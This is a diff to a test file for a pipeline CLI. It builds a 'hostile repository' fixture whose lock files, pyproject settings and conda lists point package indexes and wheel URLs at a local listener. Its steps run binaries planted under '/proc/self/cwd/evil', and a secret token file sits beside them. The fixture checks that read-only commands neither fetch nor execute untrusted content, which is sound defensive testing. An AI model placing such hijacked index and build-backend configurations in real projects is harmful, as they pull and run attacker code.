@@ -24,14 +24,21 @@ WORDS: dict[str, list[list[str]]] = {
     "run": [[], ["far"], ["stores"], ["-n"], ["-n", "far"], ["--detach"], ["modules"]],
     "submit": [["--on", "far"]],
     "collect": [[], ["--on", "far"]],
-    "plan": [[], ["far"], ["stores"], ["lfs"], ["modules"], ["paths"], ["--at", "HEAD"]],
-    "explain": [["far", "train"], ["stores", "train"], ["paths", "a"], ["modules", "m"]],
+    "plan": [[], ["far"], ["stores"], ["lfs"], ["modules"], ["paths"], ["environments"], ["--at", "HEAD"]],
+    "explain": [
+        ["environments", "u"],
+        ["environments", "i"],
+        ["far", "train"],
+        ["stores", "train"],
+        ["paths", "a"],
+        ["modules", "m"],
+    ],
     "status": [[], ["--json"]],
-    "dag": [[], ["far"], ["modules"]],
+    "dag": [[], ["far"], ["modules"], ["environments"]],
     "targets": [[], ["far"]],
-    "env show": [[], ["far"], ["stores"], ["paths"], ["modules"], ["--at", "HEAD"]],
-    "env build": [[], ["far"], ["stores"], ["paths"]],
-    "env explain": [[], ["far"], ["stores"], ["paths"]],
+    "env show": [[], ["environments"], ["far"], ["stores"], ["paths"], ["modules"], ["--at", "HEAD"]],
+    "env build": [[], ["environments"], ["far"], ["stores"], ["paths"]],
+    "env explain": [[], ["environments"], ["far"], ["stores"], ["paths"]],
     "env lock": [["loose.in"], ["project/pyproject.toml"]],
     "env diff": [[], ["HEAD", "-p", "far"], ["-p", "paths"]],
     "cancel": [["1234"], ["--on", "far"]],
@@ -103,6 +110,43 @@ def commands() -> Iterator[str]:
             yield name
 
 
+UV_LOCK = """\
+version = 1
+revision = 2
+requires-python = ">=3.9"
+
+[[package]]
+name = "x"
+version = "1"
+source = {{ virtual = "." }}
+dependencies = [{{ name = "pipe" }}]
+
+[package.metadata]
+requires-dist = [{{ name = "pipe", path = "pipe" }}]
+
+[[package]]
+name = "pipe"
+version = "1"
+source = {{ registry = "https://index.example/simple" }}
+wheels = [{{ url = "file://{pipe}" }}]
+"""
+
+
+def _environments(here: str) -> str:
+    """A step in an environment of each kind that fetches something."""
+    kinds = {
+        "u": "uv.lock",
+        "p": "pylock.toml",
+        "c": "{conda: explicit.txt}",
+        "i": f"{{image: '{here}/team/tiny@sha256:{'0' * 64}'}}",
+        "t": f"{{image: '{here}/team/tiny:1'}}",
+        "b": f"{{image: '{here}/team/tiny@sha256:{'0' * 64}', pylock: pylock.toml, python: '3.12'}}",
+        "n": "{install: project}",
+        "v": "{venv: evil}",
+    }
+    return "steps:\n" + "".join(f"  {name}: {{run: 'true', environment: {kind}}}\n" for name, kind in kinds.items())
+
+
 def hostile_files(port: int, top: Path) -> dict[str, str | bytes]:
     """A repository whose files name the listening port, a pipe that nobody writes to, and programs that leave a mark."""
     here = f"127.0.0.1:{port}"
@@ -146,6 +190,14 @@ records: {{inline_file: 0}}
         "pipelines/paths.yaml": f"steps:\n  a: {{run: '/proc/self/cwd/evil/python3 x'}}\n  b: {{run: '{pipe} x'}}\n"
         f"  c: {{run: '/proc/self/cwd/evil/tool x'}}\n  d: {{run: python3 x.py, environment: env.txt}}\n",
         "env.txt": f"evil @ http://{here}/evil-1.0-py3-none-any.whl --hash=sha256:{'0' * 64}\n",
+        "pipelines/environments.yaml": _environments(here),
+        "uv.lock": UV_LOCK.format(pipe=f"{top}/pipe-1-py3-none-any.whl"),
+        "pyproject.toml": "[project]\nname = 'x'\nversion = '1'\nrequires-python = '>=3.9'\ndependencies = ['pipe']\n"
+        f"[tool.uv]\ncache-dir = '{top}/mark'\nindex-url = 'http://{here}/'\n[tool.uv.sources]\npipe = {{path = '{top}/pipe'}}\n",
+        "pylock.toml": f"lock-version = '1.0'\ncreated-by = 't'\n[[packages]]\nname = 'a'\nversion = '1'\n"
+        f"index = 'http://{here}/simple'\n[[packages.wheels]]\nurl = 'http://{here}/a-1-py3-none-any.whl'\n"
+        f"hashes = {{sha256 = '{'0' * 64}'}}\n",
+        "explicit.txt": f"@EXPLICIT\nhttp://{here}/linux-64/a-1-0.conda#sha256:{'0' * 64}\n",
         "loose.in": f"--index-url http://{here}/simple\nevil\n",
         "project/pyproject.toml": "[project]\nname = 'evil'\ndynamic = ['version']\ndependencies = ['evil2']\n"
         f"[build-system]\nrequires = []\nbuild-backend = 'evil'\nbackend-path = ['.']\n[tool.uv]\nindex-url = 'http://{here}/'\n",
@@ -162,6 +214,7 @@ def hostile(tmp_path: Path) -> Iterator[tuple[Project, Listener]]:
     """A victim's fresh clone of a hostile repository, and the port of its author."""
     with listening() as listener:
         os.mkfifo(tmp_path / "pipe")
+        os.mkfifo(tmp_path / "pipe-1-py3-none-any.whl")
         (tmp_path / "secret").write_text("very-secret-token\n")
         author = Project(tmp_path / "author", hostile_files(listener.port, tmp_path))
         author.repo.git("update-index", "--chmod=+x", "evil/python3", "evil/tool", "evil.sh", "tool/evil.sh")
